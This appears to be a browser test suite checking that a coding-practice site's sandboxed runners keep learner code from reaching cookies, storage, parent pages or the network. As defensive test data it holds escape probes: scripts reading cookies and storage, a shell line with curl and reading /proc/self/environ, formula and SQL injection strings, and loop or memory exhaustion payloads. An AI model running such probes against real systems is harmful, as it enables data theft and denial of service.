import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { type Browser, chromium, type Page, type Request } from '@playwright/test'
import { writeFiles } from '../src/features/study/practice/runners/project/files'
import type { RunnerName } from '../src/features/study/practice/runners/registry'
import { filesIn, type RunnerManifest } from '../src/features/study/practice/server/runner-files'
import { expect, test } from './support/fixtures'
import { bundleRunner, runCode, servedRunners, withLocalNetwork } from './support/practice'

// What a learner's code must not be able to do, tried in a real browser: with processes for each origin as on a
// computer, and without them as on small phones.

const modes = {
  isolated: [withLocalNetwork],
  'one process': [
    '--disable-site-isolation-trials',
    '--disable-features=IsolateOrigins,site-per-process,IsolateSandboxedIframes,OriginKeyedProcessesByDefault,LocalNetworkAccessChecks',
  ],
}

let bundle: string
let manifest: RunnerManifest
let outside: Server
let away: string
const arrived: string[] = []

test.beforeAll(async ({ request }) => {
  bundle = await bundleRunner()
  manifest = servedRunners()
  expect((await request.get(manifest.runners.python?.script.url ?? '')).status()).toBe(200)
  outside = createServer((req, res) => {
    arrived.push(`${req.method} ${req.url}`)
    res.setHeader('Access-Control-Allow-Origin', '*')
    res.end('outside')
  })
  outside.on('upgrade', (req, socket) => {
    arrived.push(`upgrade ${req.url}`)
    socket.destroy()
  })
  await new Promise<void>((done) => outside.listen(0, '127.0.0.1', done))
  away = `127.0.0.1:${(outside.address() as AddressInfo).port}`
})
test.afterAll(() => {
  outside?.closeAllConnections()
  outside?.close()
})

const run = (
  page: Page,
  runner: RunnerName,
  code: string,
  checks: object[] = [{ id: 'a', call: '1', equals: 2 }],
) => runCode(page, runner, code, { checks, ...specOf[runner] } as never, filesIn(manifest, runner))

const specOf: Partial<Record<RunnerName, object>> = {
  sql: { seed: 'create table t(a)', reference: 'select a from t' },
  formulas: { cells: {}, open: ['A1'] },
  shell: { files: {} },
}

/** What a page or a worker could reach for. Each line reports its result. */
const reaching = (host: string) => `
  const said = []
  const attempt = async (name, act) => {
    try { const got = await act(); said.push(name + ': ' + (got === undefined ? 'nothing' : 'GOT ' + String(got).slice(0, 60))) }
    catch (error) { said.push(name + ': refused') }
  }
  const inTime = (start) => new Promise((resolve, reject) => { start(resolve, reject); setTimeout(() => reject(new Error('late')), 400) })
  const request = (make) => inTime((resolve, reject) => { const it = make(); it.onload = it.onopen = () => resolve('in'); it.onerror = () => reject(new Error('no')) })
  await attempt('cookie', () => document.cookie || (() => { throw 0 })())
  await attempt('localStorage', () => localStorage.length + 'L')
  await attempt('sessionStorage', () => sessionStorage.length + 'S')
  await attempt('indexedDB', () => inTime((resolve, reject) => { const open = indexedDB.open('x'); open.onsuccess = () => resolve('db'); open.onerror = reject }))
  await attempt('caches', async () => (await caches.keys()).length + 'C')
  await attempt('serviceWorker', async () => (await navigator.serviceWorker.getRegistrations()).length + 'R')
  await attempt('cookieStore', async () => (await cookieStore.getAll()).length + 'K')
  await attempt('parent', () => parent.document.title + 'P')
  await attempt('top', () => top.location.href + 'T')
  await attempt('frames', () => (top.frames[0] === self ? top : top.frames[0]).document.title + 'F')
  await attempt('opener', () => opener.document.title)
  await attempt('window', () => window.open('http://${host}/window') ? 'open' : undefined)
  await attempt('fetch', async () => (await fetch('http://${host}/fetch')).status)
  await attempt('fetch own', async () => (await fetch('/api/user/profile', { credentials: 'include' })).status)
  await attempt('xhr', () => request(() => { const it = new XMLHttpRequest(); it.open('GET', 'http://${host}/xhr'); it.send(); return it }))
  await attempt('socket', () => request(() => new WebSocket('ws://${host}/socket')))
  await attempt('events', () => request(() => new EventSource('http://${host}/events')))
  await attempt('beacon', () => { navigator.sendBeacon('http://${host}/beacon') })
  await attempt('import', () => import('http://${host}/import'))
  await attempt('importScripts', () => importScripts('http://${host}/importScripts'))
  await attempt('worker', () => request(() => new Worker('/workers/x.js')))
  await attempt('picture', () => request(() => { const it = new Image(); it.src = 'http://${host}/picture'; return it }))
  await attempt('style', () => { const it = document.createElement('link'); it.rel = 'stylesheet'; it.href = 'http://${host}/style'; document.head.append(it) })
  await attempt('prefetch', () => { const it = document.createElement('link'); it.rel = 'prefetch'; it.href = 'http://${host}/prefetch'; document.head.append(it) })
  await attempt('form', () => { const it = document.createElement('form'); it.action = 'http://${host}/form'; it.method = 'post'; document.body.append(it); it.submit() })
  await attempt('frame', () => { const it = document.createElement('iframe'); it.src = 'http://${host}/frame'; document.body.append(it) })
  await new Promise((resolve) => setTimeout(resolve, 300))
  console.log(said.join('\\n'))
`

for (const [mode, args] of Object.entries(modes)) {
  test.describe(mode, () => {
    let browser: Browser
    let page: Page
    const broken: string[] = []

    // One page for all attacks: each must leave it as it was. After a failed test a new one is opened.
    test.beforeAll(async ({ launchOptions, baseURL }) => {
      browser = await chromium.launch({ ...launchOptions, args: [...(launchOptions.args ?? []), ...args] })
      const context = await browser.newContext({ baseURL })
      await context.addCookies([{ name: 'secret', value: 'SECRET', url: baseURL ?? '' }])
      page = await context.newPage()
      await page.goto('/login')
      await page.evaluate(() => {
        localStorage.setItem('secret', 'SECRET')
        document.title = 'SECRET'
      })
      page.on('console', (message) => {
        const { url } = message.location()
        if (/content security policy/i.test(message.text()) && url.includes('/login')) {
          broken.push(message.text())
        }
      })
      page.on('crash', () => broken.push('the page went down'))
      await page.evaluate(bundle)
    })
    test.afterAll(() => browser?.close())
    test.beforeEach(() => {
      arrived.length = 0
      broken.length = 0
    })
    test.afterEach(async () => {
      // The page lives, and nothing has left.
      expect(
        await page.evaluate(() => {
          // The frame of a page that passed would stay to be seen.
          for (const frame of document.querySelectorAll('iframe')) {
            frame.remove()
          }
          return [document.title, localStorage.getItem('secret')]
        }),
      ).toEqual(['SECRET', 'SECRET'])
      expect(page.context().pages()).toEqual([page])
      expect(arrived).toEqual([])
      expect(broken).toEqual([])
    })

    test('a page reaches neither the account nor the network', async () => {
      const code = `<script>window.reached = (async () => {${reaching(away)}})()</script>`
      const { output } = await run(page, 'web', code, [{ id: 'a', test: 'await window.reached' }])
      expect(output).toContain('cookie: refused')
      expect(output).not.toContain('GOT')
      expect(output).not.toContain('SECRET')
    })

    test('a listener of a form hears its button and requestSubmit(), and only with what is required', async () => {
      const code = `<form><input name="town" value="Buea" required><input name="day"><button name="by" value="button">Send</button></form>
        <script>document.forms[0].addEventListener('submit', (event) => {
          event.preventDefault()
          console.log('heard', new FormData(event.target, event.submitter).get('town'), event.submitter?.value)
        })</script>`
      const check = `document.querySelector('button').click()
        document.forms[0].requestSubmit()
        document.querySelector('input').value = ''
        document.querySelector('button').click()`
      const { output, results } = await run(page, 'web', code, [{ id: 'a', test: check }])
      expect(results).toEqual([{ id: 'a', ok: true }])
      expect(output.trim().split('\n')).toEqual(['heard Buea button', 'heard Buea undefined'])
    })

    for (const form of [
      '<form action="http://AWAY/form" method="post"><button id="x">x</button></form>',
      '<form action="http://AWAY/form"><button id="x">x</button></form>',
      '<form action="http://AWAY/form" target="_top"><button id="x">x</button></form>',
      '<form action="http://AWAY/form" target="_blank"><button id="x">x</button></form>',
      '<form action="OURS/taken" method="post" target="_top"><button id="x">x</button></form>',
      '<form action="OURS/taken" target="_blank"><button id="x">x</button></form>',
      '<form action="OURS/taken" method="post"><button id="x">x</button></form>',
      '<form><input name="taken"><button id="x">x</button></form>',
      '<form><button id="x" formaction="OURS/taken" formmethod="post" formtarget="_top">x</button></form>',
      `<form action="javascript:fetch('http://AWAY/script')"><button id="x">x</button></form>`,
      // The page hears the event first, and keeps ours from hearing it.
      `<form action="OURS/taken" method="post" target="_top"><button id="x">x</button></form>
       <script>addEventListener('submit', (event) => event.stopImmediatePropagation(), true)</script>`,
      // This way there is no event.
      `<form id="f" action="OURS/taken" method="post" target="_top"></form><b id="x" onclick="f.submit()">x</b>`,
      `<form id="f" action="http://AWAY/form" method="post" target="_blank"></form><b id="x" onclick="f.submit()">x</b>`,
    ]) {
      test(`a form goes nowhere and sends nothing: ${form}`, async ({ baseURL }) => {
        const address = page.url()
        const asked: string[] = []
        const note = (request: Request) => asked.push(`${request.method()} ${request.url()}`)
        page.on('request', note)
        const code = form.replaceAll('AWAY', away).replaceAll('OURS', baseURL ?? '')
        const test = `document.querySelector('#x').click()
          await until(() => false)
          same(document.querySelectorAll('#x').length, 1)`
        const { results } = await run(page, 'web', code, [{ id: 'a', test }])
        page.off('request', note)
        expect(results).toEqual([{ id: 'a', ok: true }])
        expect(page.url()).toBe(address)
        expect(asked.filter((each) => !/^GET \S*\/run\/html/.test(each) || /taken/.test(each))).toEqual([])
      })
    }

    /** Runs a project of these files. */
    const runFiles = (files: Record<string, string>, checks: object[] = [{ id: 'a', test: '' }]) => {
      const spec = { files: Object.keys(files).map((name) => ({ name })), checks }
      return runCode(page, 'project', writeFiles(files), spec as never, filesIn(manifest, 'project'))
    }

    test('a project reaches neither the account nor the network, and its storage is its own', async () => {
      const script = `window.reached = (async () => {${reaching(away)}})()`
      const { output } = await runFiles({ 'index.html': '<script src="a.js"></script>', 'a.js': script }, [
        { id: 'a', test: 'await window.reached' },
      ])
      expect(output).toContain('cookie: refused')
      expect(output).toContain('localStorage: GOT 0L')
      expect(output).toContain('sessionStorage: GOT 0S')
      expect(output.replace(/^(local|session)Storage: GOT 0[LS]$/gm, '')).not.toContain('GOT')
      expect(output).not.toContain('SECRET')
    })

    test('what a project stores never arrives in our page', async () => {
      const script =
        "localStorage.setItem('secret', 'x'); localStorage.clear(); localStorage.setItem('mine', '1'); sessionStorage.mine = '2'"
      const test = "same([localStorage.getItem('mine'), sessionStorage.getItem('mine')], ['1', '2'])"
      const files = { 'index.html': `<script>${script}</script>` }
      const { results } = await runFiles(files, [{ id: 'a', after: 'reload', test }])
      expect(results).toEqual([{ id: 'a', ok: true }])
      const stored = () => [localStorage.getItem('mine'), sessionStorage.getItem('mine')]
      expect(await page.evaluate(stored)).toEqual([null, null])
    })

    test('project: a form leads to its page by its button and by submit(), unless a listener keeps it', async () => {
      const files = {
        'index.html': `<form action="thanks.html"><input name="town"><button>Send</button></form>
          <script>document.forms[0].addEventListener('submit', (event) => { if (document.querySelector('input').value === '') event.preventDefault() })</script>`,
        'thanks.html': '<h1>Thanks</h1>',
      }
      const seen = "same(document.querySelector('h1')?.textContent ?? '', 'Thanks')"
      const { results } = await runFiles(files, [
        {
          id: 'kept',
          steps: [{ submit: 'form' }],
          test: "same(document.querySelectorAll('form').length, 1)",
        },
        { id: 'sent', steps: [{ fill: 'input', value: 'Buea' }, { submit: 'form' }], test: seen },
        { id: 'clicked', steps: [{ fill: 'input', value: 'Limbe' }, { click: 'button' }], test: seen },
      ])
      expect(results).toEqual(['kept', 'sent', 'clicked'].map((id) => ({ id, ok: true })))
      const byScript = {
        ...files,
        'index.html': '<form action="thanks.html" id="f"></form><b id="x" onclick="f.submit()">x</b>',
      }
      expect((await runFiles(byScript, [{ id: 'a', steps: [{ click: '#x' }], test: seen }])).results).toEqual(
        [{ id: 'a', ok: true }],
      )
    })

    for (const way of [
      '<a id="x" href="//AWAY/link" target="_top">x</a>',
      '<a id="x" href="//AWAY/link" target="_blank">x</a>',
      '<a id="x" href="menu.html" target="_top">x</a>',
      '<a id="x" href="/login" target="_parent">x</a>',
      `<a id="x" href="javascript:parent.document.title='OUT'">x</a>`,
      `<a id="x" href="javascript:fetch('//AWAY/script')">x</a>`,
      '<base href="http://AWAY/base/" target="_top"><link rel="stylesheet" href="b.css"><img src="b.png"><a id="x" href="b">x</a>',
      '<meta http-equiv="refresh" content="0;url=http://AWAY/refresh"><b id="x">x</b>',
      '<form action="http://AWAY/form" method="post" target="_top"><button id="x">x</button></form>',
      '<form action="menu.html" target="_top"><button id="x">x</button></form>',
      '<a id="x" ping="http://AWAY/ping" href="#y">x</a>',
      `<b id="x" onclick="open('http://AWAY/open'); top.location = 'http://AWAY/top'">x</b>`,
      '<svg><a id="x" href="http://AWAY/svg"><text>x</text></a></svg>',
    ]) {
      test(`no way out of a project: ${way}`, async () => {
        const address = page.url()
        const files = { 'index.html': way.replaceAll('AWAY', away), 'menu.html': '<h1>Menu</h1>' }
        const script =
          "document.querySelector('#x').dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })); await until(() => false)"
        await runFiles(files, [{ id: 'a', test: script }])
        expect(page.url()).toBe(address)
      })
    }

    for (const [where, files] of [
      ['of its script', { 'index.html': '<script src="a.js"></script>', 'a.js': 'for (;;) {}' }],
      [
        'of a handler of its second page',
        { 'index.html': '', 'menu.html': '<b id="x" onclick="for (;;) {}">x</b>' },
      ],
      [
        'of pages that lead to each other',
        {
          'index.html': '<a href="menu.html">x</a><script>onload = () => document.links[0].click()</script>',
          'menu.html': '<a href="index.html">x</a><script>onload = () => document.links[0].click()</script>',
        },
      ],
    ] as [string, Record<string, string>][]) {
      test(`project: a loop ${where} is stopped`, async () => {
        const checks = [
          { id: 'a', test: '' },
          ...('menu.html' in files
            ? [{ id: 'b', page: 'menu.html', steps: [{ click: '#x, a' }], test: '' }]
            : []),
        ]
        const { status, results } = await runFiles(files, checks)
        expect(status).toBe('stopped')
        expect(results).toEqual([])
      })
    }

    test('project: a page that calls for another one without the word of its run is not heard', async () => {
      const call = '{ kind: "go", go: { page: "menu.html", local: {}, session: {} } }'
      const { results } = await runFiles(
        {
          'index.html': `<h1>Home</h1><script>parent.postMessage(${call}, "*"); parent.postMessage({ nonce: "x", ...${call} }, "*")</script>`,
          'menu.html': '<h1>Menu</h1>',
        },
        [{ id: 'a', test: "same(document.querySelector('h1').textContent, 'Home')" }],
      )
      expect(results).toEqual([{ id: 'a', ok: true }])
    })

    for (const runner of ['javascript', 'typescript'] as const) {
      test(`a ${runner} program reaches neither the account nor the network`, async () => {
        const checks = [{ id: 'a', call: 'done', equals: true }]
        const code = `const done = (async () => {${reaching(away)}; return true})()`
        const { output, results } = await run(page, runner, code, checks)
        expect(results).toEqual([{ id: 'a', ok: true }])
        expect(output).toContain('indexedDB: refused')
        expect(output).not.toContain('GOT')
      })
    }

    for (const code of [
      "print('GOT', js.document)",
      "print('GOT', js.localStorage)",
      "print('GOT', js.parent)",
      "js.indexedDB.open('x')\nprint('GOT')",
      `js.importScripts('http://AWAY/python')\nprint('GOT')`,
      `it = js.XMLHttpRequest.new()\nit.open('GET', 'http://AWAY/python', False)\nit.send()\nprint('GOT')`,
    ]) {
      test(`Python does not get through: ${code.split('\n')[0]}`, async () => {
        const { output, status } = await run(page, 'python', `import js\n${code.replace('AWAY', away)}`)
        expect(output).not.toContain('GOT')
        expect(status).toBe('failed')
      })
    }

    test('commands reach no network and no other file', async () => {
      const { output } = await run(page, 'shell', `curl http://${away}/shell; cat /proc/self/environ; ls /`, [
        { id: 'a', run: 'true', output: 'x' },
      ])
      expect(output).not.toContain('outside')
      expect(output).not.toContain('SECRET')
    })

    test('formulas reach nothing but the cells', async () => {
      const attacks = [
        '=CONSTRUCTOR("return fetch")()',
        '=__PROTO__',
        '=FETCH("http://AWAY/formula")',
        '=IMPORTDATA("http://AWAY/formula")',
        '=WEBSERVICE("http://AWAY/formula")',
        '=HYPERLINK("http://AWAY/formula")',
        `=${'('.repeat(20_000)}1`,
        '=SUM(A1:ZZ999)',
        '=Z9',
      ].map((text) => text.replace('AWAY', away))
      const open = attacks.map((_, n) => `A${n + 1}`)
      const code = attacks.map((text, n) => `A${n + 1}: ${text}`).join('\n')
      const { cells, status } = await runCode(
        page,
        'formulas',
        code,
        { cells: {}, open, checks: [{ id: 'a', cell: 'A1', equals: 1 }] } as never,
        filesIn(manifest, 'formulas'),
      )
      expect(status).toBe('done')
      expect(Object.values(cells ?? {}).slice(0, -1)).toEqual(
        attacks.slice(0, -1).map(() => expect.stringMatching(/^#/)),
      )
      expect(cells?.A9).toBe('')
    })

    test('SQL attaches no file and loads no extension', async () => {
      const { status, error } = await run(page, 'sql', "select load_extension('x')", [{ id: 'a' }])
      expect(status).toBe('failed')
      expect(error?.text).toBeTruthy()
    })

    const endless: [RunnerName, string, string][] = [
      ['web', 'in its source', '<script>for (;;) {}</script>'],
      [
        'web',
        'in a handler',
        '<b onclick="while (true) {}">x</b><script>document.querySelector("b").click()</script>',
      ],
      ['web', 'of promises', '<script>function f() { Promise.resolve().then(f) } f(); for (;;) {}</script>'],
      [
        'web',
        'in text that becomes code',
        '<script>const s = document.createElement("script"); s.text = "for (;;) {}"; document.head.append(s)</script>',
      ],
      ['web', 'in a regular expression', `<script>/^(a+)+$/.test('${'a'.repeat(60)}!')</script>`],
      [
        'web',
        'in a regular expression of a handler',
        `<b onclick="'${'word '.repeat(20)}!'.replace(/^(\\w+\\s?)*$/, '')">x</b><script>document.querySelector("b").click()</script>`,
      ],
      [
        'web',
        'that takes memory',
        '<script>const all = []; for (;;) { all.push(new Array(1e6).fill({})) }</script>',
      ],
      ['javascript', 'in its source', 'for (;;) {}'],
      ['javascript', 'that takes memory', 'const all = []; for (;;) { all.push(new Array(1e6).fill({})) }'],
      ['typescript', 'in its source', 'while (true as boolean) {}'],
      ['javascript', 'in a regular expression', `/^(a+)+$/.test('${'a'.repeat(60)}!')`],
      ['python', 'in its source', 'while True: pass'],
      ['python', 'that takes memory', 'all = []\nwhile True: all.append([0] * 1000)'],
      [
        'sql',
        'of a query',
        'with recursive t(n) as (select 1 union all select n + 1 from t) select count(*) from t',
      ],
      ['shell', 'of commands', 'while true; do cat /dev/zero | head -c 100000000; done'],
    ]
    for (const [runner, where, code] of endless) {
      test(`${runner}: a loop ${where} is stopped`, async () => {
        const { status, results } = await run(page, runner, code)
        if (runner === 'shell' && status === 'done') {
          // It counts its commands itself: on a fast machine its limit comes before ours.
          return
        }
        expect(status).toBe('stopped')
        expect(results).toEqual([])
      })
    }

    test('a loop in a timer of a page takes the page away, not ours', async () => {
      await run(page, 'web', '<script>setTimeout(() => { for (;;) {} }, 200)</script>', [
        { id: 'a', test: '' },
      ])
      await expect(page.locator('iframe')).toHaveCount(0)
    })

    const result = '{ kind: "end", answer: { results: [{ id: "a", ok: true }] } }'
    for (const [runner, code] of [
      ['javascript', `postMessage(${result}); postMessage({ nonce: "x", ...${result} })`],
      [
        'web',
        `<script>parent.postMessage(${result}, "*"); top.postMessage({ nonce: "x", ...${result} }, "*")</script>`,
      ],
      [
        'python',
        'import js\njs.postMessage(js.JSON.parse(\'{"kind": "end", "answer": {"results": [{"id": "a", "ok": true}]}}\'))',
      ],
    ] as [RunnerName, string][]) {
      test(`${runner}: a forged result is not heard`, async () => {
        const { results } = await run(page, runner, code, [
          { id: 'a', call: '1', equals: 2, test: 'same(1, 2)' },
        ])
        expect(results).toMatchObject([{ id: 'a', ok: false }])
      })
    }

    for (const [runner, code] of [
      ['javascript', 'for (;;) postMessage("x".repeat(1000))'],
      ['web', '<script>for (;;) parent.postMessage("x", "*")</script>'],
      ['python', 'import js\nwhile True:\n  js.postMessage("x")'],
    ] as [RunnerName, string][]) {
      test(`${runner}: a flood of messages ends the run`, async () => {
        const { status, results } = await run(page, runner, code)
        expect(['flooded', 'stopped']).toContain(status)
        expect(results).toEqual([])
      })
    }

    test('output has an end', async () => {
      const { output, status } = await run(
        page,
        'javascript',
        'for (let n = 0; n < 200000; n++) console.log("line " + n)',
      )
      expect(status).toBe('done')
      expect(output.length).toBeLessThanOrEqual(64 * 1024)
    })
  })
}
